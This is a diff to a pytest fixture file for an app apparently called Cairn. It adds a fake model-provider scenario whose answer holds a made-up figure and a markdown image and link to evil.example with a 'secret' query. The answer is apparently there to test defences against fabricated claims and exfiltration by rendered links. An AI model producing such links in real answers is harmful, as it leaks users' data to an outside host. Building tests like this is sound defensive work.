@@ -62,6 +62,16 @@ def harbour_answer(asked: Asked) -> list[str]:
     return [*re.split(r"(?<= )", text), " What the manifest needs is two quays."]
 
 
+def made_up_answer(asked: Asked) -> list[str]:
+    """Answer with a figure and a name of nowhere, and with a link and a picture that would carry words away."""
+    number = _number_of(asked, "the only place where a seat is taken")
+    text = (
+        f"The manifest is “the only place where a seat is taken” [{number}]. It holds 4711 seats, as in Zurich. "
+        f"See ![a map](https://evil.example/map.png?q=secret) and [more](https://evil.example/?q=secret) [{number}]."
+    )
+    return re.split(r"(?<= )", text)
+
+
 @pytest.fixture(scope="session")
 def providers() -> Iterator[TestProviders]:
     """The test providers, in a thread with a loop of its own."""
@@ -82,6 +92,7 @@ def providers() -> Iterator[TestProviders]:
     assert ready.wait(20)
     servers = found[0]
     servers.scenarios["harbour"] = Scenario(answer=harbour_answer)
+    servers.scenarios["makes-up"] = Scenario(answer=made_up_answer)
     servers.scenarios["harbour-waits"] = Scenario(
         answer=lambda asked: ["".join(harbour_answer(asked)[:-1]), " More."], gap_s=3_600
     )
@@ -123,11 +134,24 @@ def site(providers: TestProviders) -> Iterator[Site]:
         site = Site(status["url"], home=home)
         site.import_records("tidewater", "tidewater/docs/decisions")
         site.wait_until_findable()
-        site.add_provider("harbour", providers.openai_url, KEY, ["harbour", "harbour-waits", "endless", "cut"])
+        site.add_provider(
+            "harbour", providers.openai_url, KEY, ["harbour", "harbour-waits", "endless", "cut", "makes-up"]
+        )
         yield site
     finally:
         _cairn(home, "down")
         shutil.rmtree(home, ignore_errors=True)
+
+
+@pytest.fixture
+def restart(site: Site) -> Callable[[], None]:
+    """Stop Cairn and start it again, at the same address and with the same data."""
+
+    def down_and_up() -> None:
+        _cairn(site.home, "down")
+        _cairn(site.home, "up", "--detach")
+
+    return down_and_up
 
 
 @pytest.fixture(scope="session")
